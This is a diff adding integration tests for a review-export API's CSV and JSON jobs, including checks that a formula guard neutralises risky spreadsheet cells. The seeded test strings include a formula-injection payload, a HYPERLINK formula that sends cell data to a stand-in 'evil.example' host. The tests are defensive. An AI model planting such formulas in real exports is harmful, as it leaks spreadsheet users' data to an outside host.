@@ -1,0 +1,250 @@
+import { execFileSync } from 'node:child_process';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createTenant, db, type Tenant } from '../helpers/db.ts';
+import { api, errorBody } from '../helpers/http.ts';
+import { parseCsv } from '../helpers/csv.ts';
+import { eventually } from '../helpers/receiver.ts';
+import { startWorker, type TestWorker } from '../helpers/worker.ts';
+
+// Text that breaks naive CSV writers and spreadsheets.
+const HOSTILE = [
+  'plain words',
+  'comma, separated, values',
+  'a "quoted" word and ""double"" quotes',
+  'line one\nline two',
+  'windows\r\nline break',
+  'lonely\rcarriage return',
+  '=SUM(A1:A9)',
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+1 555 0100',
+  '-2+3',
+  '@SUM(1)',
+  '\tleading tab',
+  '\rleading carriage return',
+  'emoji 👍🏽 and 🇫🇷, accents: déjà vu, 中文, עברית',
+  '"', ',', '""', ' leading and trailing spaces ',
+  '\\. backslash dot',
+  'NULL',
+  "'already quoted with an apostrophe",
+  'semi;colon|pipe\u0000'.replace('\u0000', ''),
+];
+
+const N = 10_000;
+let t: Tenant;
+let w: TestWorker;
+let formId: string;
+
+const REVIEW_COLUMNS = ['id', 'rating', 'title', 'content', 'reviewer_name', 'reviewer_email', 'verification_status', 'is_hidden', 'created_at', 'form_id'];
+
+async function createForm(orgId: string) {
+  const [form] = await db`insert into plaudit.review_forms (org_id, name) values (${orgId}, 'Export form') returning id`;
+  return form.id as string;
+}
+
+async function exportJob(tenant: Tenant, body: Record<string, unknown>) {
+  const res = await api('POST', `/api/v1/organizations/${tenant.org.id}/exports`, { key: tenant.keys.write, body });
+  expect(res.status, JSON.stringify(res.body)).toBe(201);
+  return res.body;
+}
+
+async function completed(tenant: Tenant, id: string, timeoutMs = 60_000) {
+  return await eventually(async () => {
+    const res = await api('GET', `/api/v1/organizations/${tenant.org.id}/exports/${id}`, { key: tenant.keys.read });
+    return ['completed', 'failed'].includes(res.body.status) && res.body;
+  }, timeoutMs, 'export to finish');
+}
+
+async function download(tenant: Tenant, id: string) {
+  const res = await fetch(`${(await import('vitest')).inject('apiUrl')}/api/v1/organizations/${tenant.org.id}/exports/${id}/download`, {
+    headers: { authorization: `Bearer ${tenant.keys.read}` },
+  });
+  return { status: res.status, headers: res.headers, text: await res.text() };
+}
+
+/** `COPY (query) TO STDOUT CSV HEADER`, through psql, as a person would compare. */
+function copyCsv(query: string, params: unknown[]): string {
+  const sql = `copy (${query.replace(/\$1/g, `'${params[0]}'`)}) to stdout with (format csv, header)`;
+  return execFileSync('psql', [process.env.TEST_DATABASE_URL!, '-X', '-q', '-v', 'ON_ERROR_STOP=1', '-c', sql], {
+    encoding: 'utf8', maxBuffer: 256 * 1024 * 1024,
+  });
+}
+
+// The export's own select list, as COPY gets it: with and without the formula guard.
+const selectList = (guard: boolean) => {
+  const g = (col: string) => (guard ? `plaudit.csv_guard(${col})` : col);
+  return `select ${g('id::text')} as id, rating::text as rating, ${g('title')} as title, ${g('content')} as content,
+            ${g('reviewer_name')} as reviewer_name, ${g('reviewer_email')} as reviewer_email,
+            ${g('verification_status')} as verification_status, is_hidden::text as is_hidden,
+            plaudit.iso_utc(created_at) as created_at, ${g('form_id::text')} as form_id
+     from plaudit.reviews where org_id = $1 order by created_at, id`;
+};
+
+beforeAll(async () => {
+  t = await createTenant();
+  formId = await createForm(t.org.id);
+  await db`
+    insert into plaudit.reviews (org_id, form_id, rating, title, content, reviewer_name, reviewer_email,
+                                 verification_status, is_hidden, created_at)
+    select ${t.org.id}, ${formId}, 1 + g % 5,
+           case when g % 4 = 0 then null else (${HOSTILE}::text[])[1 + (g * 7) % ${HOSTILE.length}] end,
+           (${HOSTILE}::text[])[1 + g % ${HOSTILE.length}] || ' #' || g,
+           (${HOSTILE}::text[])[1 + (g * 3) % ${HOSTILE.length}],
+           'reviewer' || g || '@example.com',
+           (array['unverified', 'pending', 'verified', 'rejected'])[1 + g % 4],
+           g % 7 = 0,
+           timestamptz '2026-01-01 00:00:00+00' + g * interval '37 minutes'
+    from generate_series(1, ${N}) g`;
+}, 120_000);
+
+afterAll(async () => {
+  await w?.stop();
+});
+
+describe('exports', () => {
+  it('answers 409 until the job is completed, then a CSV that round-trips and matches COPY except for the formula guard', { timeout: 120_000 }, async () => {
+    const job = await exportJob(t, { format: 'csv', filters: { include_hidden: true } });
+    expect(job).toMatchObject({
+      id: expect.any(String), format: 'csv', filters: { include_hidden: true }, status: 'pending',
+      row_count: 0, created_at: expect.stringMatching(/Z$/), completed_at: null, download_url: null,
+    });
+    const early = await api('GET', `/api/v1/organizations/${t.org.id}/exports/${job.id}/download`, { key: t.keys.read });
+    expect(early.status).toBe(409);
+    expect(early.body).toEqual(errorBody(409, 'Conflict', /not ready/));
+
+    w = await startWorker([t.org.id]);
+    const done = await completed(t, job.id);
+    expect(done).toMatchObject({ status: 'completed', row_count: N, completed_at: expect.stringMatching(/Z$/), download_url: expect.stringContaining(`/exports/${job.id}/download`) });
+    expect(Date.parse(done.expires_at) - Date.parse(done.completed_at)).toBe(7 * 24 * 3600_000);
+
+    const file = await download(t, job.id);
+    expect(file.status).toBe(200);
+    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(file.headers.get('content-disposition')).toMatch(/^attachment; filename="reviews-\d{4}-\d\d-\d\d-[0-9a-f]{8}\.csv"$/);
+    expect(Number(file.headers.get('content-length'))).toBe(Buffer.byteLength(file.text));
+    expect(file.text.startsWith(`${REVIEW_COLUMNS.join(',')}\r\n`)).toBe(true);
+
+    const exported = parseCsv(file.text);
+    const guarded = parseCsv(copyCsv(selectList(true), [t.org.id]));
+    const raw = parseCsv(copyCsv(selectList(false), [t.org.id]));
+    expect(exported).toHaveLength(N + 1);
+    expect(exported).toEqual(guarded);
+    // Cell by cell against the unguarded values: equal, or the guarded form of a risky cell.
+    let guardedCells = 0;
+    for (let r = 1; r < raw.length; r++) {
+      for (let c = 0; c < REVIEW_COLUMNS.length; c++) {
+        const value = raw[r][c];
+        if (/^[=+\-@\t\r]/.test(value)) {
+          expect(exported[r][c]).toBe(`'${value}`);
+          guardedCells += 1;
+        } else {
+          expect(exported[r][c]).toBe(value);
+        }
+      }
+    }
+    expect(guardedCells).toBeGreaterThan(1000);
+    // The values are the reviews' own: emoji and line breaks survive.
+    expect(exported.some((row) => row[3].includes('👍🏽'))).toBe(true);
+    expect(exported.some((row) => row[3].includes('windows\r\nline break'))).toBe(true);
+
+    const events = await db`select data from plaudit.events where org_id = ${t.org.id} and type = 'export.completed' and data ->> 'id' = ${job.id}`;
+    expect(events).toHaveLength(1);
+    expect(events[0].data).toMatchObject({ id: job.id, format: 'csv', status: 'completed', row_count: N });
+  });
+
+  it('writes JSON as an array of Review objects that round-trips', { timeout: 120_000 }, async () => {
+    w ??= await startWorker([t.org.id]);
+    const job = await exportJob(t, { format: 'json' });
+    const done = await completed(t, job.id);
+    const visible = N - Math.floor(N / 7);
+    expect(done).toMatchObject({ status: 'completed', row_count: visible });
+    const file = await download(t, job.id);
+    expect(file.headers.get('content-type')).toBe('application/json; charset=utf-8');
+    expect(file.headers.get('content-disposition')).toMatch(/\.json"$/);
+    const rows = JSON.parse(file.text);
+    expect(rows).toHaveLength(visible);
+    expect(Object.keys(rows[0])).toEqual(REVIEW_COLUMNS);
+    const expected = await db`
+      select id, rating, title, content, reviewer_name, reviewer_email, verification_status, is_hidden,
+             plaudit.iso_utc(created_at) as created_at, form_id
+      from plaudit.reviews where org_id = ${t.org.id} and not is_hidden order by created_at, id`;
+    expect(rows).toEqual(expected.map((r) => ({ ...r })));
+  });
+
+  it('filters on created_at with both ends inclusive, in UTC', { timeout: 60_000 }, async () => {
+    const edge = await createTenant();
+    const form = await createForm(edge.org.id);
+    const stamps = ['2026-02-28T23:59:59.999Z', '2026-03-01T00:00:00.000Z', '2026-03-01T12:00:00.000Z', '2026-03-01T23:59:59.999Z', '2026-03-02T00:00:00.000Z'];
+    for (const [i, at] of stamps.entries()) {
+      await db`
+        insert into plaudit.reviews (org_id, form_id, rating, content, reviewer_name, reviewer_email, verification_status, created_at)
+        values (${edge.org.id}, ${form}, ${1 + i}, ${'review ' + i}, 'Edge', 'edge@example.com', 'unverified', ${at})`;
+    }
+    const edgeWorker = await startWorker([edge.org.id]);
+    try {
+      const cases: [Record<string, unknown>, string[]][] = [
+        [{ startDate: '2026-03-01', endDate: '2026-03-01' }, stamps.slice(1, 4)],
+        [{ startDate: '2026-03-01' }, stamps.slice(1)],
+        [{ endDate: '2026-02-28' }, stamps.slice(0, 1)],
+        [{ startDate: '2026-03-02', endDate: '2026-03-31' }, stamps.slice(4)],
+        [{ startDate: '2025-01-01', endDate: '2025-12-31' }, []],
+        [{ startDate: '2026-03-01', endDate: '2026-03-01', rating: 3 }, stamps.slice(2, 3)],
+        [{ form_id: form }, stamps],
+      ];
+      for (const [filters, expected] of cases) {
+        const job = await exportJob(edge, { format: 'json', filters });
+        const done = await completed(edge, job.id);
+        const rows = JSON.parse((await download(edge, job.id)).text);
+        expect(rows.map((r: { created_at: string }) => r.created_at), JSON.stringify(filters)).toEqual(expected);
+        expect(done.row_count).toBe(expected.length);
+      }
+      const empty = await exportJob(edge, { format: 'csv', filters: { startDate: '2030-01-01' } });
+      await completed(edge, empty.id);
+      expect((await download(edge, empty.id)).text).toBe(`${REVIEW_COLUMNS.join(',')}\r\n`);
+    } finally {
+      await edgeWorker.stop();
+    }
+  });
+
+  it('validates formats and filters (422 naming the field)', async () => {
+    for (const [body, field] of [
+      [{ format: 'xlsx' }, /format/],
+      [{ format: 'csv', filters: { startDate: '2026-02-30' } }, /startDate/],
+      [{ format: 'csv', filters: { startDate: '01/02/2026' } }, /startDate/],
+      [{ format: 'csv', filters: { startDate: '2026-03-02', endDate: '2026-03-01' } }, /endDate/],
+      [{ format: 'csv', filters: { rating: 6 } }, /rating/],
+    ] as const) {
+      const res = await api('POST', `/api/v1/organizations/${t.org.id}/exports`, { key: t.keys.write, body });
+      expect(res.status, JSON.stringify(body)).toBe(422);
+      expect(res.body).toEqual(errorBody(422, 'Unprocessable Entity', field));
+    }
+    expect((await api('POST', `/api/v1/organizations/${t.org.id}/exports`, { key: t.keys.read, body: { format: 'csv' } })).status).toBe(403);
+  });
+
+  it('records a failure with its reason, lists jobs, hides them from other tenants, and expires files', { timeout: 60_000 }, async () => {
+    const other = await createTenant();
+    const [bad] = await db`
+      insert into plaudit.exports (org_id, format, filters) values (${t.org.id}, 'csv', '{"rating": "five"}') returning id`;
+    w ??= await startWorker([t.org.id]);
+    const failed = await completed(t, bad.id);
+    expect(failed).toMatchObject({ status: 'failed', error: expect.stringMatching(/invalid input syntax/) });
+    const res = await api('GET', `/api/v1/organizations/${t.org.id}/exports/${bad.id}/download`, { key: t.keys.read });
+    expect(res.status).toBe(409);
+    expect(res.body.message).toMatch(/failed/);
+
+    const list = await api('GET', `/api/v1/organizations/${t.org.id}/exports?limit=2`, { key: t.keys.read });
+    expect(list.status).toBe(200);
+    expect(list.body.data).toHaveLength(2);
+    expect(list.body.meta.total).toBeGreaterThanOrEqual(3);
+    expect((await api('GET', `/api/v1/organizations/${other.org.id}/exports/${bad.id}`, { key: other.keys.read })).status).toBe(404);
+
+    const job = await exportJob(t, { format: 'csv', filters: { startDate: '2026-01-01', endDate: '2026-01-01' } });
+    await completed(t, job.id);
+    await db`update plaudit.exports set expires_at = now() - interval '1 second' where id = ${job.id}`;
+    const gone = await api('GET', `/api/v1/organizations/${t.org.id}/exports/${job.id}/download`, { key: t.keys.read });
+    expect(gone.status).toBe(410);
+    expect(gone.body).toEqual(errorBody(410, 'Gone', /expired/));
+    await db`select plaudit.run_delivery_maintenance()`;
+    const [{ n }] = await db`select count(*)::integer as n from plaudit.export_chunks where export_id = ${job.id}`;
+    expect(n).toBe(0);
+  });
+});
